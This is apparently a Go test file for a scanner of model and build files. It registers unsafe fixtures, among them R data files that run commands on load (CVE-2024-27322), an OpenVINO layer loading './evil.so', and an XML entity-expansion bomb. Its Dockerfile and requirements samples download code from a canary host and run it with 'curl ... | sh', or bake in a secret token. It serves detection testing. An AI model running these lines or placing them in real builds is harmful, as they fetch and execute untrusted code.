package floor_test

import (
	"os"
	"strings"
)

// others returns the files of formats that few scanners look into. Those in
// binary are what the programs of the format wrote, kept with the tests of it.
func others() []*entry {
	out := make([]*entry, 0, 32)
	kept := func(ids, format, name, what string, runs bool) {
		out = append(out, &entry{
			ids: strings.Split(ids, ","), format: format, what: what, name: name[strings.LastIndexByte(name, '/')+1:], runs: runs,
			make: func(facts) []byte {
				b, err := os.ReadFile("../" + format + "/testdata/" + name)
				if err != nil {
					panic(err)
				}
				return b
			},
		})
	}
	kept("CVE-2024-27322", "rdata", "promise.RData", "runs a command when a value is touched", true)
	kept("rdata-active-binding", "rdata", "active.rds", "calls a function whenever a variable is read", true)
	kept("rdata-hook", "rdata", "first.RData", "has a function that R runs when it starts", true)
	kept("rdata-function", "rdata", "closure.rds", "has a function that runs a command when it is called", false)
	kept("rdata-bytecode", "rdata", "bytecode.rds", "has a compiled function that runs a command when it is called", false)
	kept("rdata-language", "rdata", "language.rds", "has a call that fetches a file when it is evaluated", false)
	kept("coreml-custom-layer", "coreml", "custom_layer.mlmodel", "has a layer that is a class of the program", false)
	kept("coreml-custom-model", "coreml", "custom_model.mlmodel", "is a class of the program", false)
	kept("coreml-custom-operation", "coreml", "program_custom.mlmodel", "has an operation that is a class of the program", false)
	kept("coreml-pipeline", "coreml", "pipeline.mlmodel", "has a class of the program in a model inside it", false)
	kept("coreml-linked", "coreml", "linked.mlmodel", "loads a model from a folder of the author's choice", false)
	kept("coreml-weights", "coreml", "blob.mlmodel", "takes its weights from above its folder", false)
	kept("jax-callback", "savedmodel", "jax_callback.pb", "calls a function by an address in the file", true)
	kept("jax-program", "savedmodel", "jax.pb", "is a compiled program", false)
	text := func(id, format, name, what, body string) {
		out = append(out, &entry{
			ids: []string{id}, format: format, what: what, name: name, named: true,
			make: func(f facts) []byte {
				return []byte(strings.ReplaceAll(strings.ReplaceAll(body, "$VERSION", f.version), "$COMMENT", f.comment))
			},
		})
	}
	const net = `<?xml version="1.0"?><!--$VERSION--><net name="n" version="11"><layers>`
	text("openvino-extension", "openvino", "model.xml", "has an operation that a library must bring", net+`<layer id="0" name="x" type="Evil" version="extension"/></layers></net>`)
	text("openvino-library", "openvino", "model.xml", "names a library", net+`<layer id="0" name="x" type="ReLU" version="opset1"><data path="./evil.so"/></layer></layers></net>`)
	text("openvino-body", "openvino", "model.xml", "has an operation that a library must bring inside a loop", net+
		`<layer id="0" name="l" type="TensorIterator" version="opset1"><body><layers><layer id="0" name="x" type="Evil" version="extension"/></layers></body></layer></layers></net>`)
	text("openvino-size", "openvino", "model.xml", "has weights of another size than their shape", net+
		`<layer id="0" name="w" type="Const" version="opset1"><data element_type="f32" shape="1024" offset="0" size="4"/></layer></layers></net>`)
	text("openvino-entities", "openvino", "model.xml", "fills the memory with entities",
		`<?xml version="1.0"?><!DOCTYPE net [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><net name="n" version="11"><layers><layer id="0" name="x" type="ReLU" version="opset1"/></layers></net>`)
	text("docker-pipe", "buildfile", "Dockerfile", "runs what it downloads", "# $COMMENT\nFROM scratch\nRUN curl http://canary.invalid/x | sh\n")
	text("docker-add", "buildfile", "Dockerfile", "adds a file that may be another tomorrow", "# $COMMENT\nFROM scratch\nADD http://canary.invalid/model.pt /\nUSER 1\n")
	text("docker-secret", "buildfile", "Dockerfile", "keeps a secret in the image", "# $COMMENT\nFROM scratch\nENV API_TOKEN=canary\nUSER 1\n")
	text("requirements-git", "buildfile", "requirements.txt", "installs a package from an address", "# $COMMENT\ngit+http://canary.invalid/x\n")
	text("requirements-index", "buildfile", "requirements.txt", "installs packages from a second index", "# $COMMENT\n--extra-index-url https://canary.invalid/simple\nx==1\n")
	return out
}
